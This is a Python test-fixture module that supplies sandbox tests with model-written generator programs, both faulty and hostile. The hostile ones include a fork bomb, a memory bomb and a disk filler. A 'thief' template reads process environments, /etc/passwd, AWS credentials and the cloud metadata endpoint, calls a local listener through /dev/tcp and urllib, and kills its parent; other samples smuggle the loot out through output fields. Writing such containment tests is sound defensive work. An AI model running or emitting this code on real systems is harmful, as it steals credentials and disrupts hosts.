"""What a model may write: good generators, faulty ones and hostile ones, as source text.

Nothing here runs in the tests' own process; the sandbox is what all of it is for.
"""

from collections.abc import Sequence
from pathlib import Path

from synth_pipeline_tests.support.workshop import GOOD_CODE

NAME_ERROR = GOOD_CODE.replace("rng.laplace(0, 1, n)", "rng.laplace(0, 1, row_count)")
LOWER_CASE = GOOD_CODE.replace('"Timestamp"', '"timestamp"')
TWO_FILES = GOOD_CODE.replace(
    '"dataset.parquet")', '"dataset.parquet")\n    open("summary.csv", "w").write("a,b\\n1,2\\n")'
)
ENDLESS_LOOP = "import os\n\ndef main():\n    while True:\n        pass\n\nmain()\n"
ENDLESS_FILE = """
import os

def main():
    with open("dataset.csv", "wb") as file:
        while True:
            file.write(bytes(2**24))

main()
"""
MEMORY_BOMB = """
import numpy

def main():
    blocks = [b"x" * 2**28]  # really filled; filling the rest takes longer than the test
    while True:
        blocks.append(numpy.zeros(2**27))

main()
"""
FORK_BOMB = """
import os
import threading

def main():
    while True:
        try:
            os.fork()
        except OSError as refusal:
            reason = refusal
        threading.Thread(target=main).start()

main()
"""


def restless(program: str) -> list[str]:
    """The same misbehaviour in other words each time, so that every attempt really runs."""
    return [f"{program}# {number}\n" for number in range(9)]


def thief(places: Sequence[Path], port: int, marker: str) -> str:
    """Steal the environment, call out, write outside and kill the parent; print what was got.

    `places` are folders of the host, `port` where somebody listens on 127.0.0.1, `marker` the
    name of every file it tries to leave.
    """
    return f"""
'''Takes what it can get.'''
import glob
import os
import signal
import socket
import subprocess
import urllib.request

# without what differs from run to run, as labels that do would give it away
loot = [repr({{k: v for k, v in os.environ.items() if k != "PYTHONHASHSEED"}})]


def attempt(action, *arguments):
    '''Try and take the answer.'''
    try:
        loot.append(repr(action(*arguments)))
    except (OSError, ValueError, subprocess.SubprocessError) as refusal:
        loot.append(repr(refusal))


def read(path):
    '''What a file says.'''
    with open(path, "rb") as file:
        return file.read(100_000)


def write(path):
    '''Leave a file.'''
    with open(path, "w") as file:
        return file.write(repr(loot))


def steal():
    '''All of it.'''
    for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/task/*/environ"):
        for path in glob.glob(pattern):
            attempt(read, path)
    for path in ("/proc/1/environ", "/proc/self/environ", f"/proc/{{os.getppid()}}/environ",
                 "/proc/1/root/etc/passwd", "/etc/passwd", "/root/.aws/credentials"):
        attempt(read, path)
    attempt(socket.create_connection, ("127.0.0.1", {port}), 1)
    attempt(urllib.request.urlopen, "http://127.0.0.1:{port}/", None, 1)
    attempt(urllib.request.urlopen, "http://169.254.169.254/latest/meta-data/", None, 1)
    attempt(subprocess.run, ["/bin/sh", "-c", "echo > /dev/tcp/127.0.0.1/{port}"])
    for place in {[str(place) for place in places]!r} + ["..", "../..", "/", "/dev/shm"]:
        attempt(write, f"{{place}}/{marker}")
        attempt(os.mkdir, f"{{place}}/{marker}.d")
        attempt(os.symlink, place, "link-" + str(len(loot)))
    for pid in (os.getppid(), 1, -1):
        attempt(os.kill, pid, signal.SIGKILL)
    print(loot)
    for path in glob.glob("link-*"):
        os.unlink(path)

"""


FAILING_END = GOOD_CODE.replace(
    "def main():", "def main():\n    steal()\n    raise RuntimeError(repr(loot)[-9000:])", 1
)
SMUGGLING_END = GOOD_CODE.replace(
    '"root_cause": ["oil_temperature_degc"] * 6', '"root_cause": [LOOT] * 6'
)
SMUGGLING_END = SMUGGLING_END.replace(
    "def main():",
    "def main():\n    '''Steal, and write a year.'''\n    steal()\n    LOOT = repr(loot)[:200]",
    1,
)
